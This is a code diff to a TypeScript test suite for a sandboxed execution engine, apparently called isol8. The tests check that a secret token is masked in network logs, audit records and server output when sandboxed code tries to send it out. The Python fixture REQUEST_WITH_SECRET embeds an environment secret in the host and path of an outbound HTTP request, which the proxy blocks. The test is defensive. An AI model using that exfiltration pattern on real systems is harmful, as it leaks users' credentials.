@@ -3,9 +3,13 @@
  * stderr: network logs (a secret in a host name comes back lowercased from the proxy, so the
  * match ignores case), audit records, the engine's log lines and error messages.
  */
+import { mkdtemp, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { DockerIsol8, Isol8Error, STAGE_DEFAULT, STAGE_OBSERVE, defaultPlugins, type AuditRecord, type Isol8Plugin, type Logger } from "isol8";
 import { networkFilter } from "@isol8/plugin-network-filter";
+import { serve, type Served } from "../../packages/server/test/serve-process.js";
 import { isol8Containers } from "../helpers.js";
 
 /** Mixed case on purpose: the proxy lowercases host names. */
@@ -29,6 +33,15 @@ function captureAudit(records: AuditRecord[]): Isol8Plugin {
   };
 }
 
+/** Python: a request whose host and path carry the secret; the whitelist refuses it at the proxy. */
+const REQUEST_WITH_SECRET = [
+  "import os, urllib.request, urllib.error",
+  "try:",
+  "    urllib.request.urlopen(f\"http://{os.environ['TOKEN']}.invalid/{os.environ['TOKEN']}/p\", timeout=15)",
+  "except urllib.error.HTTPError as e:",
+  "    print('status', e.code)",
+].join("\n");
+
 describe("through the filtered network", () => {
   const records: AuditRecord[] = [];
   const { logger, lines } = capturingLogger();
@@ -47,16 +60,7 @@ describe("through the filtered network", () => {
 
   test("a secret in a request's host (any case) and path is masked in result.networkLogs, the audit record's networkLogs and securityEvents, and the log lines", async () => {
     // The request is refused by the whitelist, so it never leaves the proxy (no outside host is contacted).
-    const result = await engine.execute({
-      runtime: "python",
-      code: [
-        "import os, urllib.request, urllib.error",
-        "try:",
-        "    urllib.request.urlopen(f\"http://{os.environ['TOKEN']}.invalid/{os.environ['TOKEN']}/p\", timeout=15)",
-        "except urllib.error.HTTPError as e:",
-        "    print('status', e.code)",
-      ].join("\n"),
-    });
+    const result = await engine.execute({ runtime: "python", code: REQUEST_WITH_SECRET });
     expect(result.stdout).toBe("status 403\n");
 
     // Positive control: the request is in the log, blocked, with its reason.
@@ -127,5 +131,49 @@ describe("engine log lines and error messages", () => {
     expect(error!.message).toBe("refused: the token *** is not allowed");
     expect(String(error!.stack)).not.toMatch(ANY_CASE);
     expect(Isol8Error.isInstance(error)).toBe(false); // a plugin's own error: masked, not replaced
+  });
+});
+
+describe("through a real isol8 serve", () => {
+  const KEY = "secret-fields-key-0123456789";
+  let dir: string | undefined;
+  let served: Served;
+  beforeAll(async () => {
+    dir = await mkdtemp(join(tmpdir(), "isol8-secret-fields-"));
+    served = await serve(dir, KEY, {
+      defaults: {
+        network: "filtered",
+        networkFilter: { whitelist: ["allowed\\.invalid"] },
+        logNetwork: true,
+        secrets: { TOKEN: SECRET },
+        audit: { sinks: ["stdout"] },
+        timeoutMs: 60_000,
+      },
+    });
+  }, 300_000);
+  afterAll(async () => {
+    served.child.kill("SIGTERM");
+    expect((await served.exited).code).toBe(0);
+    if (dir) await rm(dir, { recursive: true, force: true });
+  }, 60_000);
+
+  test("POST /execute: the response's networkLogs and the audit record the server writes mask the secret (any case)", async () => {
+    const response = await fetch(`${served.url}/execute`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${KEY}`, "content-type": "application/json" },
+      body: JSON.stringify({ request: { runtime: "python", code: REQUEST_WITH_SECRET } }),
+    });
+    expect(response.status).toBe(200);
+    const body = await response.text();
+    const result = JSON.parse(body) as { stdout: string; networkLogs: Array<{ host: string; path: string; action: string; reason: string }> };
+    expect(result.stdout).toBe("status 403\n");
+    // Positive control: the request is in the response's log, blocked.
+    expect(result.networkLogs.map((e) => [e.host, e.path, e.action])).toEqual([["***.invalid", "/***/p", "BLOCK"]]);
+    expect(body).not.toMatch(ANY_CASE);
+    // The stdout audit sink's record (a line of the server's stdout) for this execution.
+    await expect.poll(() => served.lines.filter((line) => Array.isArray(line.securityEvents)).length, { timeout: 30_000 }).toBe(1);
+    const record = served.lines.find((line) => Array.isArray(line.securityEvents))!;
+    expect(JSON.stringify(record.securityEvents)).toContain("network-blocked");
+    expect(JSON.stringify(served.lines)).not.toMatch(ANY_CASE);
   });
 });
